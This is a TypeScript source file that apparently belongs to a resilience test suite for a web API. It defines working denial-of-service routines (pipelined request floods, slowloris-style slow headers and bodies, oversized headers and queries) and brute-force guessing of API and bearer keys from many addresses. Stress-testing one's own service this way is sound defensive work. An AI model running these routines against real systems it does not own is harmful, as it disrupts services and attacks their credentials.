import { setTimeout as delay } from "node:timers/promises";
import { type Attack, address, dial, head, keepOpen, keyLine, loops, type Target } from "./attacks-target.ts";

/** Sends the same bytes again and again over some connections. */
export function flood(lanes: number, bytes: (target: Target) => Buffer): Attack["run"] {
  return async (target, signal) => {
    const piece = bytes(target);
    await loops(lanes, signal, async () => {
      const socket = dial(target);
      await new Promise<void>((resolve) => {
        const send = () => {
          while (!signal.aborted && socket.writable && socket.write(piece));
        };
        socket
          .on("drain", send)
          .once("connect", send)
          .once("close", () => resolve());
        signal.addEventListener("abort", () => resolve(), { once: true });
      });
      socket.destroy();
    });
  };
}

export const many = (count: number, text: string) => Buffer.from(text.repeat(count));

/** Attacks with requests, most of them without a key. */
export const httpAttacks: readonly Attack[] = [
  { name: "pipelined /health", run: flood(4, (target) => many(2_000, head(target, "GET /health"))) },
  {
    name: "pipelined /openapi.json",
    run: flood(4, (target) => many(200, head(target, "GET /openapi.json"))),
  },
  {
    name: "pipelined reads with a key",
    needsPlatform: true,
    run: flood(4, (target) =>
      many(500, head(target, "GET /api/v1/app-conversations/search", keyLine(target))),
    ),
  },
  {
    name: "slow heads, 1,000 connections",
    run: async (target, signal) =>
      keepOpen(1_000, signal, (index) => {
        const socket = dial(target, address(index));
        socket.write(head(target, "GET /health").slice(0, -2));
        const timer = setInterval(() => socket.writable && socket.write(`X-${index}: a\r\n`), 200);
        return socket.once("close", () => clearInterval(timer));
      }),
  },
  {
    name: "slow bodies, 1,000 connections",
    run: async (target, signal) =>
      keepOpen(1_000, signal, (index) => {
        const socket = dial(target, address(index));
        const lines = [keyLine(target), "Content-Type: application/json", "Content-Length: 1000000"];
        socket.write(head(target, "POST /api/v1/app-conversations", ...lines));
        const timer = setInterval(() => socket.writable && socket.write(" "), 200);
        return socket.once("close", () => clearInterval(timer));
      }),
  },
  {
    name: "large heads",
    run: flood(8, (target) =>
      many(
        4,
        head(target, "GET /health", ...Array.from({ length: 800 }, (_, index) => `X-${index}: 0123456789`)),
      ),
    ),
  },
  {
    name: "wrong keys from 500 addresses",
    run: async (target, signal) =>
      loops(100, signal, async (lane, index) => {
        const socket = dial(target, address(lane + 100 * (index % 5)));
        const wrong = `X-Session-API-Key: sp_${lane}_${index}_${"x".repeat(40)}`;
        socket.write(head(target, "GET /api/v1/users/me", wrong, "Connection: close"));
        await new Promise((resolve) => socket.once("close", resolve));
      }),
  },
  {
    name: "pipelined guesses of a key",
    run: flood(4, (target) =>
      Buffer.from(
        Array.from({ length: 500 }, (_, index) =>
          head(target, "GET /api/v1/users/me", `Authorization: Bearer sp_${index}_${"x".repeat(40)}`),
        ).join(""),
      ),
    ),
  },
  {
    name: "connections without a request",
    run: async (target, signal) =>
      loops(50, signal, async (lane, index) => {
        const socket = dial(target, address(lane + 50 * (index % 20)));
        await new Promise((resolve) => socket.once("connect", resolve).once("close", resolve));
        await delay(5);
        socket.destroy();
      }),
  },
  {
    name: "queries with 3,000 parameters",
    run: flood(4, (target) =>
      many(
        4,
        head(target, `GET /health?${Array.from({ length: 3_000 }, (_, index) => `a${index}`).join("&")}`),
      ),
    ),
  },
  {
    name: "unknown paths",
    run: flood(4, (target) => many(100, head(target, `GET ${"/a".repeat(500)}`))),
  },
];
